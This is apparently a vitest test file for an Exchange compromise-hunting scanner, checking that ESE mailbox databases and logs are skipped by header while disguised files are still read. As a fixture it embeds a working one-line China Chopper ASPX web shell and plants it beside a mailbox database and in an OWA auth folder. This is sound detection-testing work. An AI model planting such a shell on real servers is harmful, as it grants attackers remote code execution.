// A whole drive holds Exchange's mailbox databases (tens to hundreds of GB) and thousands of ESE transaction logs:
// they are not streamed through the file sweep but named in skipped, one line per folder — recognised by their ESE
// headers and folder layout, never by name alone (a web shell named x.edb is still read).
import { afterAll, describe, expect, it } from 'vitest';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { scan } from '../src/engine/scan.js';
import { eseKind, withoutEseStores } from '../src/evidence/ese.js';
import type { EvidenceFile } from '../src/evidence/file.js';
import type { Skipped } from '../src/model.js';

const dir = mkdtempSync(join(tmpdir(), 'exhunt-ese-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function put(rel: string, bytes: Buffer | string): void {
  mkdirSync(dirname(join(dir, rel)), { recursive: true });
  writeFileSync(join(dir, rel), bytes);
}

/**
 * An ESE file's first page as Microsoft's ESE writes it (dev/ese/src/inc: DBFILEHDR ulMagic 0x89ABCDEF at 4;
 * le_filetype at 667 in database, log and checkpoint headers; a log's sector size at 8), then page bytes.
 */
function ese(type: 1 | 3 | 4, size: number): Buffer {
  const b = Buffer.alloc(size, 0x5a);
  b.fill(0, 0, 4096);
  b.writeUInt32LE(0x1c2d3e4f, 0); // checksum
  if (type === 1) b.writeUInt32LE(0x89abcdef, 4);
  else if (type === 3) {
    b.writeInt32LE(0x1a2b, 4); // generation
    b.writeUInt16LE(4096, 8);
  }
  b.writeUInt32LE(type, 667);
  return b;
}

const CHOPPER = '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>\r\n';
const V15 = 'C/Program Files/Microsoft/Exchange Server/V15';
const DB = `${V15}/Mailbox/Mailbox Database 0123456789`;
put(`${DB}/Mailbox Database 0123456789.edb`, ese(1, 256 * 1024));
put(`${DB}/E00.chk`, ese(4, 8192));
put(`${DB}/E000000A1F2.log`, ese(3, 64 * 1024));
put(`${DB}/E000000A1F3.log`, ese(3, 64 * 1024));
put(`${DB}/E00tmp.log`, ese(3, 64 * 1024));
put(`${DB}/E00res00001.jrs`, ese(3, 64 * 1024));
// Named like the database, but a China Chopper page: read.
put(`${DB}/Mailbox Database 0123456789 (copy).edb`, CHOPPER);
// The mount-point layout of large servers: DB01.db\DB01.edb beside DB01.log\E01*.log.
put('D/ExchangeVolumes/DB01/DB01.db/DB01.edb', ese(1, 128 * 1024));
put('D/ExchangeVolumes/DB01/DB01.log/E01.chk', ese(4, 8192));
put('D/ExchangeVolumes/DB01/DB01.log/E0100000001.log', ese(3, 64 * 1024));
// Windows Search's own ESE database with its MSS logs: not a mailbox database, swept as before.
put('C/ProgramData/Microsoft/Search/Data/Applications/Windows/Windows.edb', ese(1, 64 * 1024));
put('C/ProgramData/Microsoft/Search/Data/Applications/Windows/MSS.chk', ese(4, 8192));
// An ESE header in a folder IIS serves is no reason to leave a file unread.
put(`${V15}/FrontEnd/HttpProxy/owa/auth/E00.chk`, Buffer.concat([ese(4, 8192), Buffer.from(CHOPPER)]));

describe('ESE stores in a whole-drive scan', () => {
  it('reads the kind from the header', () => {
    expect(eseKind(ese(1, 4096))).toBe('database');
    expect(eseKind(ese(3, 4096))).toBe('log');
    expect(eseKind(ese(4, 4096))).toBe('checkpoint');
    expect(eseKind(Buffer.from(CHOPPER.repeat(20)))).toBeNull();
    expect(eseKind(ese(1, 4096).subarray(0, 670))).toBeNull();
  });

  it('leaves mailbox databases and their logs out, named per folder with their size; reads what only looks like one', async () => {
    const report = await scan({ paths: [dir], jobs: 1, command: [] });
    const host = report.hosts[0];
    const stores = host.skipped.filter((s) => s.reason.startsWith('not read:'));
    expect(stores.map((s) => [s.path, s.reason.slice(0, s.reason.indexOf(')') + 1)])).toEqual([
      [DB, 'not read: mailbox database (6 files, 0.5 MB)'],
      ['D/ExchangeVolumes/DB01/DB01.db', 'not read: mailbox database (1 file, 0.1 MB)'],
      ['D/ExchangeVolumes/DB01/DB01.log', 'not read: mailbox database (2 files, 0.1 MB)'],
    ]);
    // Left out on purpose, not evidence missing: no weight on the verdict.
    expect(stores.every((s) => s.unread === undefined)).toBe(true);
    // Nothing of them was read: no "binary text log" line per transaction log, no finding on them.
    expect(host.skipped.filter((s) => /\/E0[01][^/]*\.(?:log|jrs)$/.test(s.path))).toEqual([]);
    const paths = new Set(host.findings.map((f) => f.source.path));
    expect([...paths].filter((p) => /\.(?:log|jrs)$|DB01\.edb$|0123456789\.edb$/.test(p))).toEqual([]);
    expect(host.stats.files_seen).toBe(4);
    // The shell named .edb beside the database, and the ESE-headed file in owa\auth, are read and judged.
    expect(paths.has(`${DB}/Mailbox Database 0123456789 (copy).edb`)).toBe(true);
    expect(host.findings.some((f) => f.source.path === `${V15}/FrontEnd/HttpProxy/owa/auth/E00.chk`)).toBe(true);
  });

  it('on a live server, files Exchange holds open count as the store only beside logs their headers prove', async () => {
    const file = (rel: string, size = 1024 * 1024): EvidenceFile => ({ kind: 'fs', abs: `/x/${rel}`, rel, size, mtimeMs: 0 });
    const live = 'Program Files/Microsoft/Exchange Server/V15/Mailbox/DB1';
    const files = [
      file(`${live}/DB1.edb`, 50e9), file(`${live}/E00.chk`, 8192), file(`${live}/E00.log`), file(`${live}/E0000000A01.log`),
      // Held open, but nothing beside it proves a store: not left out by its name alone.
      file('Program Files/Microsoft/Exchange Server/V15/Mailbox/DB2/DB2.edb', 20e9), file('Temp/E00.log'),
    ];
    const held = new Set([`${live}/DB1.edb`, `${live}/E00.chk`, `${live}/E00.log`, 'Program Files/Microsoft/Exchange Server/V15/Mailbox/DB2/DB2.edb', 'Temp/E00.log']);
    const read = async (f: EvidenceFile) => {
      if (held.has(f.rel)) throw Object.assign(new Error('resource busy or locked'), { code: 'EBUSY' });
      return ese(3, 4096);
    };
    const skipped: Skipped[] = [];
    const kept = await withoutEseStores(files, skipped, () => false, read);
    expect(kept.map((f) => f.rel)).toEqual(['Program Files/Microsoft/Exchange Server/V15/Mailbox/DB2/DB2.edb', 'Temp/E00.log']);
    expect(skipped.map((s) => `${s.path}: ${s.reason.slice(0, s.reason.indexOf(')') + 1)}`)).toEqual([
      `${live}: not read: mailbox database (4 files, 50.0 GB; 3 of them held open by Exchange, not readable)`,
    ]);
  });
});
